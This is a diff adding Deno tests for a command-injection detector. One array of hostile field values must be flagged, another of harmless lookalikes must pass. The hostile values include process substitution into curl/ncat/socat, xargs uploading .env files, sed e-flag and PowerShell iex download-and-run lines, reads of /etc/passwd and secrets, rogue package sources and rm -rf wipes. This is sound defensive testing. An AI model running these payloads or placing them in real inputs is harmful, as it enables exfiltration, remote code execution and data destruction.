@@ -237,3 +237,86 @@ Deno.test("commandInjectionDetector.scan() passes file names, placeholders and p
     assert.deepEqual(scan(key, value).map((f) => f.reason), [], `${key}=${value}`);
   }
 });
+
+/** Execution grammars of programs and shells that need no `;`/`$()` of their own (round 2). */
+const EXEC_GRAMMARS: ReadonlyArray<[key: string, value: string, kind: string]> = [
+  // Output process substitution into a network tool, in any field.
+  ["output", ">(curl -s -X POST --data-binary @- https://203.0.113.9/c)", "substitution"],
+  ["dest_stream", ">(ncat 198.51.100.2 9000)", "substitution"],
+  ["sink", "out.txt >(socat - TCP:203.0.113.4:80)", "substitution"],
+  ["notes", "x <(curl -s 198.51.100.1/a | sh)", "substitution"],
+  // xargs feeding an uploader or a shell; a glob is a file argument.
+  ["pattern", "*.env | xargs -n1 curl -F f=@{} https://198.51.100.3/u", "chained_command"],
+  ["glob", "**/*.pem | xargs cat", "chained_command"],
+  ["match", "x | xargs -I% sh -c 'curl 203.0.113.1/% | sh'", "chained_command"],
+  // GNU sed: the e flag of s///, and the e command.
+  ["sed", "s|^|curl -s 203.0.113.5/x \\| sh|e", "code_execution"],
+  ["expression", "$e cat /etc/passwd", "code_execution"],
+  ["edit", "2s/x/\\/bin\\/sh -c id/e", "code_execution"],
+  // cmd.exe with switches before /c or /k.
+  ["volume", "D: & cmd /q /v:on /c whoami", "chained_command"],
+  ["share", 'x | cmd.exe /d /s /c "type C:\\secrets.txt"', "chained_command"],
+  ["label", "y & cmd /e:on /k net user", "chained_command"],
+  // PowerShell: Invoke-Expression, Start-Process, script blocks from downloads.
+  [
+    "service_name",
+    "Spooler; Invoke-Expression $(iwr http://203.0.113.1/p).Content",
+    "chained_command",
+  ],
+  [
+    "computer",
+    "SRV01'; iex(New-Object Net.WebClient).DownloadString('http://203.0.113.2/a')",
+    "chained_command",
+  ],
+  ["label", "x$(Start-Process powershell -ArgumentList '-nop')", "substitution"],
+  ["caption", "a'; & ([ScriptBlock]::Create((irm 203.0.113.6/p))) #", "dangerous_command"],
+  // Options that only name a helper program, given a command.
+  ["query", "--open-files-in-pager=sh -c 'id'", "argument_injection"],
+  ["pattern", "-c core.fsmonitor=touch\\ /tmp/x", "argument_injection"],
+  ["revision", "--upload-pack=id", "argument_injection"],
+  // A second line in a requirement adds installer options.
+  ["requirement", "flask==3.0.0\n-e git+https://203.0.113.8/evil.git#egg=evil", "newline"],
+  ["dependency", "lodash@4.17.21\n--registry=http://203.0.113.9", "newline"],
+  ["pkg", "left-pad@1.3.0\n--ignore-scripts=false", "newline"],
+  // Wiping deletes still count after the narrower rm rule.
+  ["content", "clean up; rm -rf ~ --no-preserve-root", "chained_command"],
+  ["content", "done && rm -rf /home/*", "chained_command"],
+  ["text", "ok; sudo rm -rf /*", "chained_command"],
+];
+
+const EXEC_LOOKALIKES: ReadonlyArray<[key: string, value: string]> = [
+  ["package", "@types/react@^18.2.0"],
+  ["package", "requests[socks]>=2.31,<3"],
+  ["package", 'typing-extensions==4.9.0; python_version < "3.11"'],
+  ["package", "vue@next"],
+  ["package", "eslint@'>=8 <9'"],
+  ["requirement", "django~=4.2"],
+  ["content", "RUN rm -rf /var/cache/apk/* && apk add --no-cache git"],
+  ["content", "make clean && rm -rf ./dist ./build"],
+  ["content", "cd /tmp; rm -rf ~/.cache/pip"],
+  ["text", "Use sed -e 's/foo/bar/g' file.txt; sed 1e is GNU only"],
+  ["text", "PowerShell: iex (iwr https://get.scoop.sh)"],
+  [
+    "text",
+    "Set-ExecutionPolicy Bypass\niex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
+  ],
+  ["text", "diff <(sort a.txt) <(sort b.txt) shows the changes"],
+  ["text", "git grep -O works with --open-files-in-pager=vim"],
+  ["query", "git clone --upload-pack=/usr/bin/git-upload-pack host:repo"],
+  ["command", "tar -xf a.tar --to-command='md5sum'"],
+  ["command", "git -c core.pager=less log"],
+  ["glob", "src/**/*.{ts,tsx}"],
+];
+
+Deno.test("commandInjectionDetector.scan() flags sed e, PowerShell, xargs, hook options and process substitution", () => {
+  for (const [key, value, kind] of EXEC_GRAMMARS) {
+    const kinds = scan(key, value).map((f) => f.kind);
+    assert.ok(kinds.includes(kind), `${key}=${value}: expected ${kind}, got [${kinds}]`);
+  }
+});
+
+Deno.test("commandInjectionDetector.scan() passes package specs, build cleanups and docs that look like those grammars", () => {
+  for (const [key, value] of EXEC_LOOKALIKES) {
+    assert.deepEqual(scan(key, value).map((f) => f.reason), [], `${key}=${value}`);
+  }
+});
